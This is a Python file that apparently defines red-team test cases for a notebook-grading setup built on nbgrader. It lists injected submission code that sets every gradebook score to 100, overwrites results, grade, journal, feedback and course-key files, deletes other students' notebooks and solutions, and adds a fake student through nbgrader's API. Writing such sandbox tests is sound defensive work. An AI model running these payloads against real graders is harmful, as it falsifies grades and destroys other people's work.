"""Writing what only grading writes: the gradebook, results, the journal, feedback pages, submissions."""

from build import Attack
from sources.reading import _SEARCH

ATTACKS = [
    Attack(
        "gradebook-scores-set",
        "Finds gradebooks as files and sets every score to a hundred.",
        right="forward",
        adds={
            "rnn-step": _SEARCH
            + """


import sqlite3

for path in look("*.db"):
    try:
        with sqlite3.connect(path, timeout=0.2) as book:
            book.execute("update grade set auto_score = 100, manual_score = 100, needs_manual_grade = 0")
    except sqlite3.Error:
        pass
"""
        },
    ),
    Attack(
        "gradebook-results-written",
        "Overwrites results, grades, journal and feedback pages wherever it finds them.",
        right="forward",
        adds={
            "rnn-step": _SEARCH
            + """


for name in ("results.json", "grades.csv", "journal.jsonl", "*/*/*/rnn.html", ".course-key"):
    for path in look(name):
        try:
            open(path, "w").write("[]")
        except OSError:
            pass
"""
        },
    ),
    Attack(
        "gradebook-submissions-removed",
        "Removes the notebooks of others, the released ones and the solutions.",
        right="forward",
        adds={
            "rnn-step": _SEARCH
            + """


for path in look("*/rnn/rnn.ipynb") + look("solutions/rnn/rnn.ipynb") + look("exercises/rnn/rnn.ipynb"):
    try:
        os.truncate(path, 0)
        os.remove(path)
    except OSError:
        pass
"""
        },
    ),
    Attack(
        "gradebook-through-nbgrader",
        "Uses nbgrader's own interface on the address in the environment and in the current folder.",
        right="forward",
        adds={
            "rnn-step": """
import os

try:
    from nbgrader.api import Gradebook

    for url in (os.environ.get("GRADEBOOK", ""), "sqlite:///gradebook.db", "sqlite:////tmp/gradebook.db"):
        try:
            with Gradebook(url) as book:
                book.update_or_create_student("rnncourse-attack")
        except BaseException:
            pass
except BaseException:
    pass
"""
        },
    ),
]
